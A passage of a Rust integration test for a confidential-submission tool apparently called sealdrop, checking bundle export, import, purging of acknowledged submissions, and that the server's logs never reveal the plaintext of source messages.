            "1 acknowledged id(s) were never exported by this server, so they were NOT purged:\n  {late}\n"
        )),
        "{out}"
    );
    assert!(
        out.contains("1 acknowledged id(s) are not on this server"),
        "{out}"
    );
    assert_eq!(setup.submissions().len(), 1);
    assert_eq!(files_under(&setup.blobs_dir()).len(), 2);

    // The next export carries the late submission only; staff import it as the newest.
    let b3 = usb.join("export-3.sdb");
    let summary = sealdrop_ok(&setup, &["export", "--out", b3.to_str().unwrap()]);
    assert!(summary.contains("1 submission(s), 2 blob(s)"), "{summary}");
    assert_eq!(manifest_ids(&b3), vec![late.clone()]);
    let out = desk.ok(&["import", b3.to_str().unwrap()]);
    assert!(out.contains("1 new report(s), 0 already here"), "{out}");
    let (rows, count) = parse_list(&desk.ok(&["list"]));
    assert_eq!(count, "5 report(s), 2 unread (*).");
    assert_eq!(rows[0].short, short(&late), "newest first: {rows:?}");
    assert!(rows[0].unread && rows[0].message == RU_LATE);

    // And then nothing is left to export.
    let b4 = usb.join("export-4.sdb");
    let summary = sealdrop_ok(&setup, &["export", "--out", b4.to_str().unwrap()]);
    assert!(summary.starts_with("Nothing to export"), "{summary}");
    assert!(manifest_ids(&b4).is_empty());
    let out = desk.ok(&["import", b4.to_str().unwrap()]);
    assert!(
        out.starts_with("Nothing new: all 0 report(s) in bundle"),
        "{out}"
    );

    // ---- 6. `--all` after the purge: only what remains -------------------------------------
    let b5 = usb.join("export-all.sdb");
    let summary = sealdrop_ok(&setup, &["export", "--all", "--out", b5.to_str().unwrap()]);
    assert!(summary.contains("1 submission(s), 2 blob(s)"), "{summary}");
    assert_eq!(manifest_ids(&b5), vec![late.clone()]);
    let out = desk.ok(&["import", b5.to_str().unwrap()]);
    assert!(
        out.starts_with("Nothing new: all 1 report(s) in bundle"),
        "{out}"
    );

    // The server said nothing of what sources sent.
    let (stdout, stderr) = server.stop();
    let logs = [stdout, stderr].concat();
    for clear in [
        "задержан",
        "ҳақиқат",
        "Ольгу",
        "passwd",
        "holiday",
        "Самаре",
    ] {
        assert!(
            find(&logs, clear.as_bytes()).is_none(),
            "{clear} in the server's output"
        );
    }
}
